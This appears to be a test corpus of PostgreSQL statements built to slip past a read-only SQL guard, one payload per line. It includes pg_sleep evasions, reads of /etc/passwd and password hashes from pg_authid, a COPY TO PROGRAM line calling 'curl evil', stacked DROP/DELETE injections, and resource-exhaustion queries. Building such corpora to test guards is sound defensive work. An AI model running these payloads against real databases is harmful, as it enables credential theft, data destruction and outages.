-- What nobody who had seen the guard wrote to get past it, over the shared schema of the guard's examples; one statement a line (%NL ends one).

SELECT pg_sleep(10)
SELECT pg_catalog.pg_sleep_for('5 minutes')
SELECT "pg_sleep"(3)
SELECT PG_SLEEP(3) FROM customers LIMIT 1
SELECT U&"pg\005Fsleep"(3)
SELECT U&"pg!005Fsleep" UESCAPE '!' (3)
SELECT CASE WHEN (SELECT count(*) FROM customers) > 0 THEN pg_sleep(9)::text ELSE 'x' END
SELECT COALESCE(NULL, pg_sleep(9)::text)
SELECT * FROM customers WHERE id = (SELECT 1 FROM pg_sleep(9))
SELECT * FROM customers c, LATERAL pg_sleep(c.id) s
SELECT * FROM ROWS FROM (generate_series(1,2), pg_sleep(2)) AS t(a,b)
SELECT nextval('order_no_seq')
SELECT * FROM orders ORDER BY setval('order_no_seq', 999)
VALUES (nextval('order_no_seq'::regclass))
SELECT set_config('search_path','evil',false)
SELECT pg_advisory_lock(42)
SELECT pg_try_advisory_xact_lock(1,2) FROM customers
SELECT pg_advisory_unlock_all()
SELECT pg_terminate_backend(pid) FROM pg_stat_activity
SELECT pg_reload_conf()
SELECT pg_rotate_logfile()
SELECT pg_switch_wal()
SELECT pg_create_restore_point('x')
SELECT pg_promote()
SELECT pg_stat_reset()
SELECT pg_stat_reset_single_table_counters('customers'::regclass)
SELECT pg_stat_force_next_flush()
SELECT pg_notify('c','payload')
SELECT pg_export_snapshot()
SELECT pg_logical_emit_message(true,'a','b')
SELECT pg_replication_origin_create('x')
SELECT pg_create_physical_replication_slot('s')
SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)
SELECT pg_log_backend_memory_contexts(pg_backend_pid())
SELECT brin_summarize_new_values('x'::regclass)
SELECT gin_clean_pending_list('x'::regclass)
SELECT setseed(0.5)
SELECT pg_read_file('/etc/passwd')
SELECT encode(pg_read_binary_file('PG_VERSION'),'hex')
SELECT * FROM pg_ls_dir('.')
SELECT (pg_stat_file('postgresql.conf')).size
SELECT * FROM pg_ls_logdir()
SELECT lo_import('/etc/passwd')
SELECT lo_export(1,'/tmp/x')
SELECT lo_create(0), lo_unlink(1)
SELECT lo_get(16400)
SELECT lo_from_bytea(0, '\x00')
SELECT loread(lo_open(1, 262144), 100)
COPY customers TO PROGRAM 'curl evil'
COPY (SELECT * FROM customers) TO STDOUT
COPY customers FROM '/tmp/x'
SELECT query_to_xml('DELETE FROM orders', true, false, '')
SELECT table_to_xml('customers', true, false, '')
SELECT database_to_xml(true,false,'')
SELECT schema_to_xml('public', true, false, '')
SELECT cursor_to_xml('c', 1, true, false, '')
SELECT * FROM ts_stat('SELECT nextval(''order_no_seq'')::text::tsvector')
SELECT ts_rewrite('a'::tsquery, 'SELECT t,s FROM aliases')
SELECT * FROM dblink('dbname=x','DELETE FROM orders') AS t(a int)
SELECT dblink_connect('c','dbname=x'), dblink_exec('c','drop table x')
SELECT * FROM crosstab('SELECT 1,2,3') AS ct(a int, b int)
SELECT xpath_table('id','x','orders','/a','true')
SELECT * FROM connectby('employees','id','manager_id','1',0) AS t(a int,b int,c int)
SELECT app.promote(3)
SELECT * FROM reporting.refresh_cache()
SELECT lower_it(name) FROM customers
SELECT o.touch_row FROM orders o
SELECT orders.touch_row FROM orders
SELECT public.count(*) FROM customers
DELETE FROM orders
UPDATE orders SET total = 0 WHERE false
INSERT INTO metrics VALUES (1, now(), 2) RETURNING *
MERGE INTO orders o USING customers c ON o.customer_id=c.id WHEN MATCHED THEN DELETE
WITH d AS (DELETE FROM orders RETURNING id) SELECT * FROM d
WITH a AS (SELECT 1), m AS (MERGE INTO orders o USING customers c ON o.customer_id=c.id WHEN MATCHED THEN DO NOTHING RETURNING o.id) SELECT * FROM m
SELECT * INTO backup FROM orders
SELECT * INTO TEMP t FROM orders
CREATE TABLE x AS SELECT 1
SELECT * FROM orders FOR UPDATE
SELECT * FROM (SELECT * FROM orders FOR SHARE) x
SELECT * FROM orders FOR NO KEY UPDATE SKIP LOCKED
EXPLAIN ANALYZE DELETE FROM orders
EXPLAIN (ANALYZE true, FORMAT json) UPDATE orders SET total=1
EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1
EXPLAIN ANALYZE EXECUTE p
DO $$ BEGIN DELETE FROM orders; END $$
LISTEN foo
NOTIFY foo, 'x'
PREPARE p AS DELETE FROM orders
EXECUTE p(1)
DECLARE c CURSOR WITH HOLD FOR SELECT * FROM orders
SET ROLE postgres
SET LOCAL transaction_read_only = off
RESET ALL
DISCARD ALL
LOCK TABLE orders
BEGIN READ WRITE
COMMIT
CALL app.promote(1)
REFRESH MATERIALIZED VIEW active_customers
VACUUM orders
LOAD 'auto_explain'
CHECKPOINT
SELECT 1; DROP TABLE orders
SELECT 1 /* ; */ ; DELETE FROM orders --
SELECT $a$ ; $b$ $a$; TRUNCATE orders; --$a$
SELECT 'x\'; DROP TABLE orders; --'
SELECT E'\'; SELECT '; COMMIT; DROP TABLE orders; --'
/* a /* nested */ b */ DELETE FROM orders
SELECT 1;;SELECT pg_sleep(1);
SELECT 1 -- x%NLCOMMIT; DROP TABLE orders
EXPLAIN SELECT 1; DELETE FROM orders
SELECT rolname, rolpassword FROM pg_authid
SELECT passwd FROM pg_shadow
SELECT * FROM pg_catalog.pg_user_mapping
TABLE pg_user_mappings
SELECT * FROM pg_hba_file_rules
SELECT * FROM pg_file_settings
SELECT a.* FROM pg_roles r JOIN pg_authid a ON a.oid = r.oid
SELECT stavalues1 FROM pg_statistic
SELECT * FROM pg_largeobject
SELECT EXISTS (SELECT FROM pg_authid WHERE rolpassword LIKE 'md5a%')
SELECT U&"pg_auth\0069d".rolname FROM U&"pg_auth\0069d"
SELECT subconninfo FROM pg_catalog.pg_subscription
SELECT count(*) FROM orders GROUP BY pg_sleep(1)
SELECT count(*) FROM orders HAVING pg_sleep(1) IS NULL
SELECT rank() OVER (PARTITION BY nextval('order_no_seq')) FROM orders
SELECT sum(total) OVER (ORDER BY id ROWS BETWEEN nextval('order_no_seq') PRECEDING AND CURRENT ROW) FROM orders
SELECT * FROM orders LIMIT nextval('order_no_seq')
SELECT * FROM orders TABLESAMPLE system (nextval('order_no_seq'))
SELECT DISTINCT ON (pg_notify('a','b')) id FROM orders
SELECT ARRAY[nextval('order_no_seq')]
SELECT (ARRAY[1,2])[nextval('order_no_seq')]
SELECT string_agg(name, ',' ORDER BY pg_advisory_lock(id)) FROM customers
SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY nextval('order_no_seq')) FROM orders
SELECT XMLELEMENT(NAME a, query_to_xml('select 1',true,true,''))
SELECT JSON_OBJECT('k': pg_read_file('x'))
SELECT * FROM customers WHERE (pg_sleep(1)) IS NOT DISTINCT FROM NULL
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n+nextval('order_no_seq')::int FROM r) SELECT * FROM r
SELECT 1 UNION SELECT nextval('order_no_seq')
SELECT * FROM customers WHERE id IN (VALUES (nextval('order_no_seq')))
SELECT (SELECT pg_sleep(1) FROM (VALUES (1)) v)
SELECT GREATEST(1, nextval('order_no_seq'))
SELECT extract(epoch FROM pg_rotate_logfile()::text::timestamp)
SELECT overlay('abc' PLACING pg_read_file('x') FROM 1)
SELECT * FROM JSON_TABLE(pg_read_file('x')::jsonb, '$' COLUMNS (a int PATH '$'))
SELECT JSON_VALUE('{}', '$.a' DEFAULT nextval('order_no_seq') ON EMPTY)
SELECT 'nextval(''order_no_seq'')'::regprocedure, pg_get_serial_sequence('orders','id'), nextval(pg_get_serial_sequence('orders','id'))
SELECT count(*) FROM generate_series(1, 10000000000)
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM r) SELECT count(*) FROM r
SELECT repeat('x', 1000000000)
SELECT array_fill(1, ARRAY[100000000])
SELECT lpad('x', 900000000)
